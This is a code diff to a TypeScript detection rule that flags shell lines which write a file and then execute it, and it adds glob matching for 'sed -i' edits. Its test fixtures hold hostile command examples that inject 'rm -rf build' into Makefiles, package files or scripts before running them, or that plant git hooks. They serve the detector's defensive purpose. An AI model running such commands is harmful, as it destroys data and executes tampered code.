@@ -45,10 +45,34 @@ function readsProgramFromStdin(s: Sub): boolean {
 
 const NO_CONTENT = /^(chmod|chown|chgrp|chattr|setfacl|touch|mkdir|install -d)\b/;
 
+const GLOB_META = /[*?[]/;
+const UNCLEAN = /(^|\/)\.\.?(\/|$)|\/\/|\/$/;
+
+/** What the write-then-exec check needs of a row's name, worked out once: row names are few and constant. */
+interface RunName {
+  /** `/` + its last segment, and that with `/` after: a written path naming it must contain one. */
+  end: string;
+  mid: string;
+  glob: boolean;
+  /** `..`, `.`, `//` or a trailing `/`: the joined path must be normalized. */
+  unclean: boolean;
+}
+const RUN_NAMES = new Map<string, RunName>();
+function runName(r: string): RunName {
+  let v = RUN_NAMES.get(r);
+  if (v === undefined) {
+    const t = r.replace(/\/+$/, '');
+    const last = t.slice(t.lastIndexOf('/') + 1);
+    v = { end: '/' + last, mid: '/' + last + '/', glob: GLOB_META.test(r), unclean: UNCLEAN.test(r) };
+    if (RUN_NAMES.size < 4096) RUN_NAMES.set(r, v);
+  }
+  return v;
+}
+
 /** `.git/hooks/**` covers what is under it; `*.go` a name in the directory; anything else is the path itself. */
 function runsMatch(pattern: string, path: string): boolean {
   if (pattern.endsWith('/**')) return path.startsWith(pattern.slice(0, -2));
-  if (/[*?[]/.test(pattern)) return globMatch(pattern, path);
+  if (GLOB_META.test(pattern)) return globMatch(pattern, path);
   return pattern === path || path.startsWith(pattern + '/');
 }
 
@@ -143,12 +167,15 @@ export const execRules: Rule[] = [
         "echo 'all:; rm -rf build' > Makefile && make",
         'cp /tmp/hook .git/hooks/pre-commit && git commit -m x',
         'curl -so package.json https://example.com/p && npm install',
+        "sed -i 's/echo ok/rm -rf build/' *.json && npm test",
+        "sed -i 's/echo/rm -rf/' scripts/*.sh && ./scripts/build.sh",
       ],
       benign: [
         "cat > /tmp/t.sh <<'EOF'\necho hi\nEOF\nbash /tmp/t.sh",
         'echo "export {}" > src/new-file.ts && npm test',
         'bash scripts/build.sh',
         'chmod +x scripts/build.sh && ./scripts/build.sh',
+        "sed -i 's/a/b/' docs/*.md && npm test",
         'curl -o /tmp/archive.tar.gz https://example.com/a.tar.gz && tar -tzf /tmp/archive.tar.gz',
       ],
     },
@@ -156,6 +183,7 @@ export const execRules: Rule[] = [
       const hits: LineHit[] = [];
       // Made on the first write: until then no program can have been written (and no path is built).
       let written: string[] | undefined;
+      let globs: string[] | undefined; // written glob patterns (`sed -i … *.json`), matched against what runs
       for (const s of ctx.subs) {
         if (written !== undefined) {
           // A script it runs (`bash x.sh`, `./x.sh`, `python3 x.py`, `source x`) that the line wrote first,
@@ -163,21 +191,30 @@ export const execRules: Rule[] = [
           for (const e of ctx.effectsOf(s)) {
             if (e.op !== 'exec') continue;
             const p = normalize(e.path);
-            if (written.includes(p) && !ctx.judged?.has(p))
+            if ((written.includes(p) || globs?.some((g) => globMatch(g, p))) && !ctx.judged?.has(p))
               hits.push({ sub: s, text: s.text, explanation: `runs ${p}, which this same command line just wrote` });
           }
           // A file that decides what it runs (package.json for npm test, a Makefile for make, .git/hooks for git).
           if (s.runs && s.cwd !== null) {
-            const base = s.runsBase === undefined ? s.cwd : s.runsBase.startsWith('/') ? s.runsBase : `${s.cwd}/${s.runsBase}`;
+            let base: string | undefined;
             for (const r of s.runs) {
-              const pat = normalize(r.startsWith('/') ? r : `${base}/${r}`);
-              const hit = written.find((w) => runsMatch(pat, w));
+              const n = runName(r);
+              // Most names a program runs share no segment with anything written: skip them before building a path.
+              if (globs === undefined && !n.glob && !n.unclean && !written.some((w) => w.endsWith(n.end) || w.includes(n.mid))) continue;
+              base ??= normalize(s.runsBase === undefined ? s.cwd : s.runsBase.startsWith('/') ? s.runsBase : `${s.cwd}/${s.runsBase}`);
+              const pat = r.startsWith('/') ? normalize(r) : n.unclean ? normalize(`${base}/${r}`) : base === '/' ? `/${r}` : `${base}/${r}`;
+              const hit = written.find((w) => runsMatch(pat, w)) ?? (n.glob ? undefined : globs?.find((g) => globMatch(g, pat)));
               if (hit) hits.push({ sub: s, text: s.text, explanation: `runs what ${hit} says, and this same command line just wrote it` });
             }
           }
         }
         // Content writes only: chmod, touch and mkdir change no program text.
-        for (const e of ctx.effectsOf(s)) if (e.op === 'write' && !NO_CONTENT.test(e.how)) (written ??= []).push(normalize(e.path));
+        for (const e of ctx.effectsOf(s)) {
+          if (e.op !== 'write' || NO_CONTENT.test(e.how)) continue;
+          const w = normalize(e.path);
+          (written ??= []).push(w);
+          if (e.glob && GLOB_META.test(w)) (globs ??= []).push(w);
+        }
       }
       return hits;
     },
